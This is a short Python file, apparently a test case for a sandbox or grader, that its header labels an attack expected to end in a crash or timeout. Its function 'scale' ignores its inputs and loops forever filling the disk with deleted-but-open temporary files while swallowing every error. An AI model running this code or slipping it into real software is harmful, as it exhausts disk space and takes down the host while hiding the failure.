# Attack: fill the disk with files that are removed while they are written, and never let an error out
# Verdict: crashed or timeout
import os
import tempfile

KEPT = []


def scale(x, factor):
    while True:
        try:
            handle, path = tempfile.mkstemp(dir=os.getcwd())
            KEPT.append(handle)
            os.unlink(path)
            for _ in range(16):
                os.write(handle, bytes(1 << 20))
        except Exception:
            pass
